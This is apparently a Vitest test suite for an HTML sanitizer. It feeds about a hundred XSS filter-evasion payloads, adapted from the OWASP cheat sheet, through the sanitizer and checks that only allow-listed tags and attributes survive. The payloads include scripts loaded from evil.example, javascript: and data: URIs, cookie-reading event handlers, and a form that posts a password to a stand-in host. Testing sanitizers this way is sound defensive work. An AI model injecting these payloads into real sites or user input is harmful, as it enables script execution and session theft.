import { describe, expect, it } from "vitest";
import { renderRichText } from "@/lib/platform/rich-text/render";
import { sanitize } from "@/lib/platform/rich-text/sanitize";
import { expectSteadyGrowth, filled } from "@/tests/support/growth";

/**
 * Ways to get a script past a filter, after the vectors of the OWASP XSS Filter Evasion Cheat Sheet: each in its own
 * words, with the same trick.
 */
const vectors: Record<string, string> = {
  "a plain script": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "a script that closes what is around it": `'">><script>alert(1)</script>`,
  "a locator that fits many contexts": `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  "a picture whose address is a script": `<IMG SRC="javascript:alert('XSS');">`,
  "no quotes and no semicolon": "<IMG SRC=javascript:alert('XSS')>",
  "mixed case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "entities for quotes": "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
  "grave accents": "<IMG SRC=`javascript:alert(\"XSS, 'XSS'\")`>",
  "a malformed link": String.raw`\<a onmouseover="alert(document.cookie)"\>xxs link\</a\>`,
  "a link with an event without quotes": "<a onmouseover=alert(document.cookie)>link</a>",
  "a malformed picture": `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  "an address of character codes": '<a href="javascript:alert(String.fromCharCode(88,83,83))">x</a>',
  "an event after a broken address": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "an empty address with an event": "<IMG SRC= onmouseover=\"alert('xxs')\">",
  "an event alone": "<IMG onmouseover=\"alert('xxs')\">",
  "an error event": '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "an error event with encoded code":
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
  "decimal entities":
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')\">x</a>",
  "long decimal entities without semicolons":
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>x</a>",
  "hexadecimal entities without semicolons":
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
  "a tab in the scheme": "<a href=\"jav\tascript:alert('XSS');\">x</a>",
  "an encoded tab": "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
  "an encoded line feed": "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
  "an encoded carriage return": "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  "a zero in the scheme": "<a href=\"java\0script:alert('XSS')\">x</a>",
  "a zero in the tag": "<SCR\0IPT>alert('XSS')</SCR\0IPT>",
  "spaces and control characters before the scheme": "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
  "a soft hyphen in the scheme": '<a href="java\u00adscript:alert(1)">x</a>',
  "a name that is no tag": '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>',
  "punctuation after the tag": String.raw`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + '`=alert("XSS")>',
  "no space before the address": '<SCRIPT/SRC="https://evil.example/x.js"></SCRIPT>',
  "an extra opening bracket": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "no closing tag": "<SCRIPT SRC=https://evil.example/x.js?< B >",
  "an address without a scheme": "<SCRIPT SRC=//evil.example/.j>",
  "a half-open picture": "<IMG SRC=\"`('XSS')\" onload=alert(1)",
  "a half-open frame": "<iframe src=https://evil.example/x.html <",
  "an escaped quote": `\\";alert('XSS');//<script>\\";alert(1);//</script>`,
  "a title that ends early": '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  "an input": '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "a background of the body": "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "a dynamic source": "<IMG DYNSRC=\"javascript:alert('XSS')\">",
  "a low source": "<IMG LOWSRC=\"javascript:alert('XSS')\">",
  "a list with a picture":
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "an old scheme": "<a href='vbscript:msgbox(\"XSS\")'>x</a>",
  "another old scheme": '<IMG SRC="livescript:[code]">',
  "a drawing": "<svg/onload=alert('XSS')>",
  "a drawing with a link": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "a module in the body": "<BODY ONLOAD=alert('XSS')>",
  "a background sound": "<BGSOUND SRC=\"javascript:alert('XSS');\">",
  "a brace of script": "<BR SIZE=\"&{alert('XSS')}\">",
  "a style sheet": '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "a style sheet elsewhere": "<STYLE>@import'https://evil.example/x.css';</STYLE>",
  "a header with a style sheet":
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/x.css>; REL=stylesheet">',
  "a binding": '<STYLE>BODY{-moz-binding:url("https://evil.example/x.xml#xss")}</STYLE>',
  "a broken-up style": "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
  "an expression in a style": "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
  "an anonymous tag with a style": "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
  "a file as a behaviour": '<XSS STYLE="behavior: url(xss.htc);">',
  "a character set that hides brackets": "¼script¾alert(¢XSS¢)¼/script¾<script>1</script>",
  "a refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "a refresh to data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
  "a frame": "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "a frame with an event": '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  "a frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "a set of frames": "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
  "a table": "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "a cell": "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
  "a block with a background": "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "a block with an encoded background":
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
  "a block with an expression": "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  "a conditional comment": "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "a base": "<BASE HREF=\"javascript:alert('XSS');//\">",
  "an object": '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  "an embedded drawing":
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always">',
  "a data island": '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  "timed text":
    '<HTML><BODY><?xml:namespace prefix="t"><t:set attributeName="innerHTML" to="<SCRIPT DEFER>alert(\'XSS\')</SCRIPT>"></BODY></HTML>',
  "a script that says it is a picture": '<SCRIPT SRC="https://evil.example/x.jpg"></SCRIPT>',
  "an included command":
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://evil.example/x.js>'\"-->",
  "an attribute with a bracket": `<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>`,
  "an attribute without a name": `<SCRIPT =">" SRC="https://evil.example/x.js"></SCRIPT>`,
  "attributes with both quotes": `<SCRIPT "a='>'" SRC="https://evil.example/x.js"></SCRIPT>`,
  "a script that writes a script": `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/x.js"></SCRIPT>`,
  "data as a page": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "data as a picture": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "a form":
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  "details that open": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  "a video": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "a formula that leaves its own namespace":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "a comment that ends in an attribute": "<!--><img src=x onerror=alert(1)>-->",
  "text that never ends": "<plaintext><img src=x onerror=alert(1)>",
  "a tag that hides in text": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "a template": "<template><script>alert(1)</script></template>",
  "nested halves": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "an id that replaces a global":
    '<a id="location" name="cookie" href="/x">x</a><img name="getElementById" src="/x.png">',
};

/** What is left may hold these and nothing else. */
const tags = /^(?:p|h1|h2|strong|em|s|u|code|pre|blockquote|ul|ol|li|table|tr|th|td|a|img|br|hr)$/;
const attribute: Record<string, RegExp> = {
  href: /^(?:https?:\/\/[^\s"]+|mailto:[^\s"]+|\/(?!\/)[^\s"\\]*|#[\w-]*)$/,
  rel: /^noopener nofollow$/,
  src: /^(?:https:\/\/[^\s"]+|\/(?!\/)[^\s"\\]*)$/,
  alt: /^[^"<>]*$/,
  width: /^\d{1,4}$/,
  height: /^\d{1,4}$/,
  loading: /^lazy$/,
  decoding: /^async$/,
  start: /^\d{1,4}$/,
};

/** Fails when the HTML holds anything but the allow list, or a bracket that is none of its tags. */
function expectClean(html: string) {
  const rest = html.replace(
    /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g,
    (_, __, tag: string, given: string) => {
      expect(tag).toMatch(tags);
      for (const [, name, value] of given.matchAll(/ ([a-z]+)="([^"]*)"/g))
        expect(value).toMatch(attribute[name!] ?? /^$never/);
      return "";
    },
  );
  expect(rest).not.toMatch(/[<>]/);
}

describe("sanitize", () => {
  it.each(Object.entries(vectors))("disarms %s", (_, html) => {
    for (const sent of [html, `<p>before ${html} after</p>`, `<h1>${html}</h1>`, `<a href="/x">${html}`]) {
      const clean = sanitize(sent);
      expectClean(clean);
      expect(sanitize(clean)).toBe(clean);
    }
  });

  it.each([
    "<p>Plain <strong>bold</strong>, <em>stressed</em>, <s>struck</s> and <u>underlined</u>.</p>",
    "<h1>One</h1><h2>Two</h2><hr /><blockquote><p>Said.</p></blockquote>",
    "<table><tr><th>Tool</th><th>Price</th></tr><tr><td>A</td><td><p>Free</p><ul><li>b</li></ul></td></tr></table>",
    '<ul><li><p>a</p></li></ul><ol start="3"><li>b</li></ol>',
    "<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {}</code></pre><p>x<br />y</p>",
    '<p><a href="/blog">ours</a> <a href="#part">here</a></p>',
    '<p><a href="https://example.org/a?b=c&amp;d=e#f" rel="noopener nofollow">elsewhere</a></p>',
    '<p><a href="mailto:a@example.org" rel="noopener nofollow">mail</a></p>',
    '<img src="/uploads/a.png" alt="A chart" width="800" height="400" loading="lazy" decoding="async" />',
    '<img src="https://example.org/a.png" alt="" loading="lazy" decoding="async" />',
  ])("leaves what the editor writes as it is: %s", (html) => {
    expect(sanitize(html)).toBe(html);
  });

  it.each([
    ["<b>a</b><i>b</i><del>c</del>", "<strong>a</strong><em>b</em><s>c</s>"],
    ['<p class="x" style="color:red" id="y" data-z>a</p>', "<p>a</p>"],
    ["<div><span>text</span> stays</div>", "text stays"],
    ['<a href="//evil.example">a</a>', "<a>a</a>"],
    ['<a href="/\\evil.example">a</a>', "<a>a</a>"],
    ['<a href="page.html">a</a>', "<a>a</a>"],
    [
      '<a href="https://a.example" target="_blank" rel="opener">a</a>',
      '<a href="https://a.example" rel="noopener nofollow">a</a>',
    ],
    ['<img src="http://a.example/x.png">', ""],
    [
      '<img src="/x.png" width="9999999" height="1">',
      '<img src="/x.png" alt="" loading="lazy" decoding="async" />',
    ],
    ["<h2>a</h2><h3>b</h3><h2>c</h2>", "<h1>a</h1><h2>b</h2><h1>c</h1>"],
    ["<h4>a</h4><h6>b</h6>", "<h1>a</h1><h2>b</h2>"],
    ["<h2>a</h2>", "<h2>a</h2>"],
    ["<p>open", "<p>open</p>"],
    ["\ud800", "\ufffd"],
  ])("makes of %s: %s", (html, clean) => {
    expect(sanitize(html)).toBe(clean);
  });
});

describe("a text of tags", { timeout: 60_000 }, () => {
  it.each([
    "<b>",
    "<ul><li>",
    "<blockquote>",
    "<svg>",
    "<a href=x>",
    "<p>",
    "<img>a",
    "</b>",
    "<b><i></b></i>",
  ])("takes work that grows with its length: %s", (part) => {
    const make = (size: number) => filled(part, size);
    expectSteadyGrowth(sanitize, make, 50_000);
    expectSteadyGrowth((html) => renderRichText(html, "https://almanac.test"), make, 50_000);
  });

  it.each(["<", "<b ", "<!--", "<![CDATA[", '<a href="', "&", "&am", "<p a=1 b ", "<h2>\u0301\u0323</h2>"])(
    "takes work that grows with its length: %s",
    (part) => expectSteadyGrowth(sanitize, (size) => filled(part, size), 50_000),
  );

  it("keeps its words where it is nested deeper than anybody writes", () => {
    const deep = (depth: number) => `${"<em>".repeat(depth)}a &lt; b${"</em>".repeat(depth)}<p>c</p>`;
    expect(sanitize(deep(100))).toContain("<em>a &lt; b</em>");
    expect(sanitize(deep(101))).toMatch(/^a &lt; b\s+c$/);
    expect(sanitize(sanitize(deep(101)))).toBe(sanitize(deep(101)));
    expect(sanitize("<<b>".repeat(200) + "script>alert(1)</script>")).not.toMatch(/<[a-z]/);
  });

  it("may have long lists whose items nobody closed", () => {
    expect(sanitize(`<ul>${"<li>a".repeat(2_000)}</ul>`).match(/<li>/g)).toHaveLength(2_000);
  });

  it("makes an address of a heading of accents", () => {
    const heading = (size: number) => `<h1>a${filled("\u0301\u0323", size)}</h1>`;
    expectSteadyGrowth((html) => renderRichText(html, "https://almanac.test"), heading, 20_000);
  });
});
